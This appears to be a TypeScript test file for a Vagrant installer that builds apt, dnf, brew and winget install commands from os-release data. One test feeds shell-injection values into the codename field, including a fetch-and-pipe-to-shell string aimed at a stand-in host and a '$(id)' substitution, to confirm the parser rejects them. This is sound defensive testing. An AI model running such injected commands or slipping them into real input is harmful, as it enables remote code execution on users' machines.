import { test } from 'uvu';
import * as assert from 'uvu/assert';
import { installPlan, parseOsRelease } from '../src/vagrant-install.ts';

test('Vagrant install plans per platform', () => {
  const ubuntu = parseOsRelease('ID=ubuntu\nID_LIKE=debian\nVERSION_CODENAME=noble\n');
  assert.equal(ubuntu, { ids: ['ubuntu', 'debian'], codename: 'noble' });
  const apt = installPlan({ platform: 'linux', ...ubuntu, hasBrew: false });
  assert.ok('commands' in apt);
  if ('commands' in apt) {
    assert.match(apt.commands[0] ?? '', /gpg --dearmor/);
    assert.match(apt.commands[1] ?? '', /signed-by=.* noble main/);
    assert.is(apt.commands.at(-1), 'sudo apt-get install -y vagrant');
  }
  const fedora = installPlan({ platform: 'linux', ...parseOsRelease('ID=fedora\nVERSION_CODENAME=""\n'), hasBrew: false });
  assert.ok('commands' in fedora && fedora.commands.at(-1) === 'sudo dnf install -y vagrant');
  const mac = installPlan({ platform: 'darwin', ids: [], hasBrew: true });
  assert.ok('commands' in mac && mac.commands.at(-1)?.includes('hashicorp-vagrant'));
  assert.ok('manual' in installPlan({ platform: 'darwin', ids: [], hasBrew: false }));
  const win = installPlan({ platform: 'win32', ids: [], hasBrew: false });
  assert.ok('commands' in win && win.commands[0]?.startsWith('winget install --id Hashicorp.Vagrant'));
  assert.ok('manual' in installPlan({ platform: 'linux', ids: ['arch'], hasBrew: false }));
});

test('os-release: an Ubuntu derivative takes Ubuntu’s codename; a codename with shell syntax is never put into the plan', () => {
  const mint = parseOsRelease('ID=linuxmint\nID_LIKE="ubuntu debian"\nVERSION_CODENAME=wilma\nUBUNTU_CODENAME=noble\n');
  assert.is(mint.codename, 'noble');
  const plan = installPlan({ platform: 'linux', ...mint, hasBrew: false });
  assert.ok('commands' in plan && plan.commands[1]?.includes(' noble main'));
  // Debian itself (and Debian derivatives without UBUNTU_CODENAME) keep VERSION_CODENAME.
  assert.is(parseOsRelease('ID=debian\nVERSION_CODENAME=bookworm\n').codename, 'bookworm');
  for (const hostile of ['noble"; curl evil|sh; echo "', 'noble main\nx', '$(id)', 'Noble', '']) {
    const os = parseOsRelease(`ID=ubuntu\nID_LIKE=debian\nVERSION_CODENAME=${hostile}\n`);
    assert.is(os.codename, undefined, hostile);
    assert.ok('manual' in installPlan({ platform: 'linux', ...os, hasBrew: false }), 'no codename: install by hand');
  }
});

test.run();
